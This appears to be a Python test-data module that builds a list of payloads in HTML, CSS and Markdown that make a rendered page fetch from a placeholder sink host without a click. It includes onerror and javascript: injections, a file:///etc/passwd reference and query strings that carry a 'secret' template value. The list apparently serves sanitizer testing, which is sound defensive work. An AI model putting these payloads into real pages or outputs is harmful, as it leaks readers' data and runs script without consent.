"""What a page fetches without a click, which reveals that it was read."""

_ATTRIBUTES = [
    "img src", "img srcset", "img lowsrc", "img dynsrc", "img longdesc", "input "
    "type=image src", "video src", "video poster", "audio src", "source src", "source "
    "srcset", "track src", "embed src", "object data", "object codebase", "iframe src",
    "frame src", "script src", "link rel=stylesheet href", "link rel=icon href",
    "link rel=preload as=image href", "link rel=prefetch href", "link rel=dns-prefetch "
    "href", "link rel=preconnect href", "link rel=modulepreload href", "link "
    "rel=import href", "link rel=manifest href", "body background", "table background",
    "td background", "svg><image href", "svg><image xlink:href", "svg><use href",
    "svg><feImage href", "svg><script href", "a ping", "area ping", "html manifest",
    "bgsound src", "applet archive", "layer src", "portal src", "xml src", "meta "
    "http-equiv=refresh content=0;url", "base href", "form action", "button "
    "formaction", "menuitem icon", "blockquote cite", "q cite", "ins cite", "head "
    "profile", "marquee background", "math><mglyph src", "math><mi href",
]  # fmt: skip
_STYLES = [
    "background:url(@SINK@/a)",
    "background-image:url('@SINK@/a')",
    "background:u\\72l(@SINK@/a)",
    "background:url&#40;@SINK@/a)",
    "background:/**/url(@SINK@/a)",
    "list-style:url(@SINK@/a)",
    "list-style-image:url(@SINK@/a)",
    "content:url(@SINK@/a)",
    "cursor:url(@SINK@/a),auto",
    "border-image:url(@SINK@/a) 1",
    "mask:url(@SINK@/a)",
    "-webkit-mask-image:url(@SINK@/a)",
    "filter:url(@SINK@/a#x)",
    "clip-path:url(@SINK@/a#x)",
    "shape-outside:url(@SINK@/a)",
    "background:image-set('@SINK@/a' 1x)",
    "background:-webkit-image-set(url(@SINK@/a) 1x)",
    "background:cross-fade(url(@SINK@/a),url(@SINK@/b),50%)",
    "--x:url(@SINK@/a);background:var(--x)",
    "src:url(@SINK@/a)",
    "position:fixed;inset:0;z-index:9999;background:#fff",
    "position:absolute;top:-9999px",
    "opacity:0",
    "text-align:center;background:url(@SINK@/a)",
    "white-space:pre-wrap;margin:0;position:fixed",
]
_SHEETS = [
    "@import '@SINK@/a.css';",
    "@import url(@SINK@/a.css);",
    "@\\69mport '@SINK@/a.css';",
    "@font-face{font-family:x;src:url(@SINK@/a)}*{font-family:x}",
    "body{background:url(@SINK@/a)}",
    "@namespace '@SINK@/a';",
    "input[value^=a]{background:url(@SINK@/a)}",
    "*{display:none!important}",
    ".jp-Cell{visibility:hidden}",
]

VECTORS = [f"<{name}=@SINK@/{n}>x" for n, name in enumerate(_ATTRIBUTES)]
VECTORS += [f'<div style="{style}">x</div>' for style in _STYLES]
VECTORS += [f"<style>{sheet}</style>x" for sheet in _SHEETS]
VECTORS += [
    "![x](@SINK@/1)",
    "![x](<@SINK@/2>)",
    "![x](@SINK@/3 'title')",
    "![x](@SINK@/4 =10x10)",
    "![x][r]\n\n[r]: @SINK@/5",
    "![r]\n\n[r]: @SINK@/6",
    "![r][]\n\n[r]: <@SINK@/7> (t)",
    "[![x](@SINK@/8)](http://a.example/)",
    "![![x](@SINK@/9)](@SINK@/10)",
    "![x](//sink.invalid/11)",
    "![x](/files/secret.png)",
    "![x](attachment:a.png)",
    "![x](file:///etc/passwd)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9dG9wLm93bmVkPTE+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](javascript:@RUN@)",
    "![x](@SINK@/12){onerror=@RUN@ width=1}",
    '![x"onerror="@RUN@](@SINK@/13)',
    '![x](@SINK@/14"onerror="@RUN@)',
    "| ![x](@SINK@/15) |\n|---|\n| ![x](@SINK@/16) |",
    "- ![x](@SINK@/17)\n  - ![x](@SINK@/18)",
    "> ![x](@SINK@/19)",
    "# ![x](@SINK@/20)",
    "**![x](@SINK@/21)**",
    "<picture><source srcset=@SINK@/22><img src=@SINK@/23></picture>",
    "<video autoplay><source src=@SINK@/24></video>",
    "<math><mtext><img src=@SINK@/25></mtext></math>",
    "<svg><style>@import '@SINK@/26'</style></svg>",
    "<?xml-stylesheet href='@SINK@/27'?>",
    "<!DOCTYPE x SYSTEM '@SINK@/28'>",
    "<img src=@SINK@/29?q={{secret}}>",
    "![x](@SINK@/30?q=${secret})",
    "[![](@SINK@/31)][r]\n\n[r]: @SINK@/32",
    "![x](http:@SINK@/33)",
    "![x](HTTP://127.0.0.1:9/34)",
]
